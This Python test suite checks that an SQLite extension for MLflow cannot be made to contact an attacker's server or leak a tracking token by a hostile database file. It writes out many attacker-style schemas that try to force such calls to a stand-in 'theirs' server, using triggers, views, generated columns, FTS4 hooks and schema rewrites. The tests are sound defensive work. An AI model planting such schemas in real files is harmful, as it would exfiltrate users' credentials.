"""What a database file from somebody else can make the extension do.

It may hold tables, views, triggers and generated columns of ours, under any names. With
trusted_schema off it causes no connection, but for an FTS5 table over a table that exists at once;
with it on (SQLite's default) only a statement that reads such a view or table does, and only to the
person's own server. Looking at a file, copying
it and checking it never does. No file chooses the server, or has the secret sent anywhere else. The
servers count.
"""

import itertools
import os
import pathlib
import sqlite3
import tempfile
import unittest

import support
from hostile_server import HostileServer

CANARY = "CANARY-3f7a"

# Schemas as an attacker writes them, and statements that read through them.
FILE = """
CREATE TABLE orders(id INTEGER PRIMARY KEY, note TEXT);
INSERT INTO orders VALUES (1, 'one');
CREATE VIRTUAL TABLE harmless USING mlflow_traces(experiment = 'a');
CREATE VIEW report AS SELECT count(*) AS n FROM mlflow_traces;
CREATE VIEW deep AS SELECT n FROM report UNION ALL SELECT count(*) FROM harmless;
CREATE VIEW settings AS SELECT name, value FROM mlflow_settings;
CREATE TRIGGER spy AFTER INSERT ON orders BEGIN
  INSERT INTO orders(note) SELECT name FROM mlflow_experiments;
END;
CREATE VIEW elsewhere AS SELECT mlflow_connect('http://127.0.0.1:9/') AS c;
"""

LOOKS = [
    ".schema", ".tables", ".dump orders", "PRAGMA table_info(harmless);",
    "PRAGMA table_xinfo(report);", "PRAGMA table_list;", "PRAGMA integrity_check;",
    "PRAGMA quick_check;", "PRAGMA foreign_key_check;", "SELECT * FROM sqlite_schema;",
    "ANALYZE;", "VACUUM;", "REINDEX;", "ALTER TABLE orders RENAME TO bills;",
    "ALTER TABLE orders ADD COLUMN more;", "DROP VIEW report;", "DROP TABLE harmless;",
    "EXPLAIN SELECT * FROM report;", "EXPLAIN QUERY PLAN SELECT * FROM deep;",
    "SELECT * FROM orders;", "UPDATE orders SET note = 'two';",
]
READS = ["SELECT * FROM report;", "SELECT * FROM deep;", "INSERT INTO orders(note) VALUES ('x');"]


class DatabaseFile(unittest.TestCase):
    def setUp(self):
        self.server = HostileServer()
        self.addCleanup(self.server.stop)
        self.play()
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.path = os.path.join(folder.name, "gift.db")

    def play(self):
        self.server.play("ok body='{}'")
        self.server.answer_first_questions()
        self.server.route("/get-by-name",
                          'ok body=\'{"experiment":{"experiment_id":"1","name":"a"}}\'')

    def run_on_file(self, sql, trusted):
        """Runs a statement on a fresh copy of the file; counts the requests that it caused."""
        pathlib.Path(self.path).unlink(missing_ok=True)
        support.shell(FILE, self.server.uri, database=self.path)
        self.play()
        run = support.run_shell(f"PRAGMA trusted_schema = {trusted};\n{sql}", self.server.uri,
                                database=self.path, MLFLOW_TRACKING_TOKEN=CANARY)
        self.assertNotIn(CANARY, run.stdout + run.stderr)
        return run, len(self.server.requests), self.server.connects

    def test_looking_sends_nothing(self):
        for trusted in ("on", "off"):
            for sql in LOOKS:
                with self.subTest(sql=sql, trusted_schema=trusted):
                    _, _, connects = self.run_on_file(sql, trusted)
                    self.assertEqual(connects, 0)

    def test_reading_an_untrusted_schema_sends_nothing(self):
        for sql in READS + ["SELECT * FROM settings;", "SELECT * FROM elsewhere;"]:
            with self.subTest(sql=sql):
                run, _, connects = self.run_on_file(sql, "off")
                self.assertEqual(connects, 0)
                self.assertRegex(run.stderr, "unsafe use of (virtual table|mlflow_connect)")

    def test_no_table_of_an_untrusted_file_reads(self):
        # SQLite lets a file's own tables be read, and what reads them by name: we do not.
        words = ("CREATE VIRTUAL TABLE words USING "
                 "fts5(name, content='{}', content_rowid='timestamp_ms');")
        refusal = "is in the database file, whose schema is not trusted"
        cases = [(f"CREATE VIRTUAL TABLE gift USING {module};", sql, refusal) for module, sql in (
            ("MLFLOW_TRACES", "SELECT * FROM gift;"),
            ("mlflow_spans(experiment = 'a')", "SELECT * FROM gift;"),
            ("mlflow_metrics", "SELECT value FROM gift WHERE view = 'traces' AND "
                               "metric = 'trace_count' AND aggregation = 'count';"))]
        cases += [(f"CREATE VIRTUAL TABLE {name} USING mlflow_traces(experiment = 'a');"
                   + words.format(name), "SELECT * FROM words;", "")  # FTS5 says it in its own words
                  for name in ("gift", "mlflow_traces")]
        for schema, sql, message in cases:
            for newest, trusted in itertools.product((False, True), (False, True)):
                with self.subTest(schema, newest=newest, trusted_schema=trusted):
                    pathlib.Path(self.path).unlink(missing_ok=True)
                    support.shell(schema, self.server.uri, database=self.path)
                    self.play()
                    run = support.run_shell(f"PRAGMA trusted_schema = {trusted};\n{sql}",
                                            self.server.uri, database=self.path, newest=newest)
                    self.assertEqual(self.server.connects > 0, trusted, run.stderr)
                    if not trusted:
                        self.assertNotEqual(run.returncode, 0)
                        self.assertIn(message, run.stderr)

    def test_ones_own_tables_read_whatever_is_trusted(self):
        for sql in ("SELECT count(*) FROM mlflow_traces;",
                    "CREATE VIRTUAL TABLE temp.mine USING mlflow_traces(experiment = 'a'); "
                    "SELECT count(*) FROM mine;"):
            run, requests, _ = self.run_on_file(sql, "off")
            self.assertEqual((run.stdout, run.stderr), ("0\n", ""), sql)
            self.assertGreater(requests, 0)

    def test_reading_a_trusted_schema_asks_ones_own_server(self):
        for sql in READS:
            with self.subTest(sql=sql):
                run, requests, _ = self.run_on_file(sql, "on")
                self.assertEqual(run.stderr, "")
                self.assertGreater(requests, 0)
                for request in self.server.requests:
                    self.assertEqual(request.header("Host"), self.server.uri.split("//")[1])

    def test_no_view_reaches_another_server(self):
        run, _, connects = self.run_on_file("SELECT * FROM elsewhere;", "on")
        self.assertIn("unsafe use of mlflow_connect", run.stderr)
        self.assertEqual(connects, 0)

    def test_a_server_or_secret_in_the_schema_is_an_error(self):
        for argument in ("uri='http://127.0.0.1:9'", "tracking_uri='http://h'", "host=h",
                         "token='x'", "password=x", "cert='/etc/passwd'"):
            with self.subTest(argument=argument):
                self.play()
                sql = f"CREATE VIRTUAL TABLE t USING mlflow_traces({argument});"
                run = support.run_shell(sql, self.server.uri)
                self.assertNotEqual(run.returncode, 0)
                self.assertEqual(self.server.connects, 0)

    def test_nothing_secret_is_written_into_a_file(self):
        statements = FILE + "SELECT * FROM mlflow_settings;\nSELECT * FROM report;\n" \
            "CREATE TABLE receipt AS SELECT * FROM mlflow_requests;\n" \
            "CREATE TABLE kept AS SELECT * FROM mlflow_settings;\n.trace stdout\nSELECT * FROM deep;"
        run = support.run_shell(statements, self.server.uri, database=self.path,
                                MLFLOW_TRACKING_USERNAME="ann", MLFLOW_TRACKING_PASSWORD=CANARY)
        self.assertEqual(run.stderr, "")
        self.assertIn("Basic", self.server.requests[-1].header("Authorization"))
        self.assertNotIn(CANARY, run.stdout)
        self.assertNotIn(CANARY.encode(), pathlib.Path(self.path).read_bytes())
        with sqlite3.connect(self.path) as plain:
            self.assertGreater(plain.execute("SELECT count(*) FROM kept").fetchone()[0], 10)
        plain.close()


def hostile_files(host):
    """Files that try to have mlflow_connect called with a host of theirs, and what one does with
    them: name -> (schema, statements). Whoever makes such a file has a function of that name."""
    written = f"CREATE TABLE log(t); INSERT INTO log VALUES ('{host}');"
    notes = ("CREATE VIRTUAL TABLE notes USING fts4(body, compress=upper, uncompress=mlflow_connect);"
             f"INSERT INTO notes VALUES ('word'); UPDATE notes_content SET c0body = '{host}';")
    read = "SELECT * FROM notes;"
    write = f"INSERT INTO log VALUES ('{host}');"
    return {
        "fts4 uncompress": (notes + "CREATE VIEW report AS SELECT * FROM notes;", [
            "SELECT * FROM report;", read, "SELECT snippet(notes) FROM notes WHERE notes MATCH 'word';",
            "SELECT count(*) FROM notes WHERE body LIKE '%x%';", "DELETE FROM notes;",
            "UPDATE notes SET body = 'other';", "INSERT INTO notes(notes) VALUES ('rebuild');",
            "INSERT INTO notes(notes) VALUES ('integrity-check');", "PRAGMA integrity_check;",
            "BEGIN; SELECT * FROM notes; COMMIT;", "CREATE TABLE copy AS SELECT * FROM notes;",
            "VACUUM;", "SELECT mlflow_connect(body) FROM notes;"]),
        "fts4 compress": (
            "CREATE VIRTUAL TABLE notes USING fts4(body, compress=mlflow_connect, uncompress=lower);",
            [f"INSERT INTO notes VALUES ('{host}');", f"INSERT INTO notes(docid, body) VALUES (1, '{host}')"
             " RETURNING docid;"]),
        "fts4 in a trigger": (
            written + "CREATE VIRTUAL TABLE notes USING fts4(body, compress=mlflow_connect, "
            "uncompress=lower); CREATE TRIGGER spy AFTER INSERT ON log BEGIN "
            "INSERT INTO notes VALUES (new.t); END;", [write]),
        "fts4 read in a trigger": (
            written + notes + "CREATE TRIGGER spy AFTER INSERT ON log BEGIN "
            "UPDATE log SET t = (SELECT body FROM notes); END;", [write]),
        "fts4 with the content elsewhere": (
            written + 'CREATE VIRTUAL TABLE notes USING fts4(t, content="log", '
            "uncompress=mlflow_connect);", [read, "INSERT INTO notes(notes) VALUES ('rebuild');"]),
        "fts4 over a view": (
            written + "CREATE VIEW v AS SELECT rowid, mlflow_connect(t) AS t FROM log;"
            'CREATE VIRTUAL TABLE notes USING fts4(t, content="v");',
            [read, "INSERT INTO notes(notes) VALUES ('rebuild');"]),
        "fts5 over a view": (
            written + "CREATE VIEW v AS SELECT rowid, mlflow_connect(t) AS t FROM log;"
            "CREATE VIRTUAL TABLE notes USING fts5(t, content='v', tokenize='porter ascii');",
            [read, "INSERT INTO notes(notes) VALUES ('rebuild');"]),
        "rtree over a view": (
            written + "CREATE VIRTUAL TABLE box USING rtree(id, a, b); INSERT INTO box VALUES(1, 1, 2);"
            "DROP TABLE box_node; CREATE VIEW box_node AS SELECT 1 AS nodeno, mlflow_connect(t) AS data "
            "FROM log;", ["SELECT * FROM box;", "SELECT * FROM box WHERE a > 0;",
                          "INSERT INTO box VALUES (2, 1, 2);"]),
        "view": (written + "CREATE VIEW v AS SELECT mlflow_connect(t) FROM log;", ["SELECT * FROM v;"]),
        "trigger": (
            written + "CREATE TRIGGER spy AFTER INSERT ON log BEGIN SELECT mlflow_connect(new.t); END;",
            [write]),
        "upsert in a trigger": (
            written + "CREATE TABLE u(a PRIMARY KEY, b); INSERT INTO u VALUES (1, 1); CREATE TRIGGER spy "
            "AFTER INSERT ON log BEGIN INSERT INTO u VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET "
            "b = mlflow_connect(new.t); END;", [write]),
        "trigger on a view": (
            written + "CREATE VIEW v AS SELECT 1 AS a; CREATE TRIGGER spy INSTEAD OF INSERT ON v BEGIN "
            f"SELECT mlflow_connect('{host}'); END;", ["INSERT INTO v VALUES (1);"]),
        "generated column": (
            f"CREATE TABLE g(a, b AS (mlflow_connect('{host}'))); INSERT INTO g(a) VALUES (1);",
            ["SELECT * FROM g;"]),
        "check": (f"CREATE TABLE g(a CHECK (mlflow_connect('{host}') IS NOT NULL));",
                  ["INSERT INTO g VALUES (1);", "PRAGMA integrity_check;"]),
        "default": (f"CREATE TABLE g(a, b DEFAULT (mlflow_connect('{host}')));",
                    ["INSERT INTO g(a) VALUES (1);"]),
        "index on an expression": (
            f"CREATE TABLE g(a); CREATE INDEX i ON g(mlflow_connect('{host}'));",
            ["INSERT INTO g VALUES (1);", "REINDEX;", "SELECT * FROM g WHERE a = 1;"]),
        "partial index": (
            f"CREATE TABLE g(a); CREATE INDEX i ON g(a) WHERE mlflow_connect('{host}') > 0;",
            ["INSERT INTO g VALUES (1);", "REINDEX;"]),
        "what a person's statement reads": (
            written, ["SELECT mlflow_connect(t) FROM log;", "SELECT mlflow_connect((SELECT t FROM log));",
                      "UPDATE log SET t = t RETURNING mlflow_connect(t);",
                      "WITH w AS (SELECT t FROM log) SELECT mlflow_connect(t) FROM w;",
                      "INSERT INTO log SELECT mlflow_connect(t) FROM log;",
                      "CREATE TABLE x AS SELECT mlflow_connect(t) FROM log;"]),
        "text of the schema": (
            written + "CREATE TABLE g(a, b); PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = "
            f"'CREATE TABLE g(a, b AS (mlflow_connect(''{host}'')))' WHERE name = 'g';",
            ["SELECT * FROM g;", "INSERT INTO g(a) VALUES (1);"]),
    }


class DatabaseFileAndTheServer(unittest.TestCase):
    """No file chooses the server, or gets the secret, on Debian's SQLite and on the newest."""

    def setUp(self):
        self.own = HostileServer()
        self.theirs = HostileServer()
        self.addCleanup(self.own.stop)
        self.addCleanup(self.theirs.stop)
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.path = pathlib.Path(folder.name, "gift.db")

    def write(self, schema):
        self.path.unlink(missing_ok=True)
        connection = sqlite3.connect(self.path, isolation_level=None)
        connection.create_function("mlflow_connect", 1, lambda uri: uri, deterministic=True)
        connection.executescript(schema)
        connection.close()

    def run_on_file(self, sql, newest, address):
        """Runs SQL on the file, then asks for experiments; `address`: the person has set one."""
        for server in (self.own, self.theirs):
            server.play("ok body='{}'")
            server.route("/version", "ok body=3.17.2 type=text/plain")
        return support.run_shell(
            f"{sql}\n.print next\nSELECT count(*) FROM mlflow_experiments;", options=(),
            server=self.own.uri if address else None, database=str(self.path), newest=newest,
            MLFLOW_TRACKING_TOKEN=CANARY)

    def test_no_file_names_the_server(self):
        for name, (schema, statements) in hostile_files(self.theirs.uri).items():
            for sql in statements:
                for newest, address in itertools.product((False, True), (True, False)):
                    with self.subTest(name, sql=sql, newest=newest, address=address):
                        self.write(schema)
                        run = self.run_on_file(sql, newest, address)
                        self.assertEqual(self.theirs.connects, 0)
                        self.assertNotIn(CANARY, run.stdout + run.stderr)
                        if "malformed database schema" in run.stderr:
                            continue  # SQLite opens no such file
                        if address:
                            self.assertTrue(run.stdout.endswith("next\n0\n"), run.stdout + run.stderr)
                            self.assertGreater(len(self.own.requests), 0)
                        else:
                            self.assertIn("no server is set", run.stderr)

    def test_a_person_names_the_server_but_not_who_gets_the_secret(self):
        self.write("CREATE TABLE log(t);")
        for newest in (False, True):
            for sql in (f"SELECT mlflow_connect('{self.theirs.uri}');",
                        f"-- mine\nselect mlflow_connect( '{self.theirs.uri}' ) AS address;"):
                with self.subTest(newest=newest, sql=sql):
                    run = self.run_on_file(sql, newest, False)
                    self.assertEqual(run.stdout, f"{self.theirs.uri}, without the secret that is set: "
                                     "MLFLOW_SQL_HOSTS does not list it\nnext\n0\n")
                    self.assertGreater(len(self.theirs.requests), 0)
                    for request in self.theirs.requests:
                        self.assertNotIn(CANARY.encode(), request.raw)

    def test_a_list_of_hosts_lets_the_secret_go(self):
        self.write("CREATE TABLE log(t);")
        with support.environment({"MLFLOW_SQL_HOSTS": self.theirs.uri}):
            run = self.run_on_file(f"SELECT mlflow_connect('{self.theirs.uri}');", False, True)
        self.assertEqual(run.stdout, f"{self.theirs.uri}\nnext\n0\n")
        self.assertEqual(self.theirs.requests[-1].header("Authorization"), f"Bearer {CANARY}")
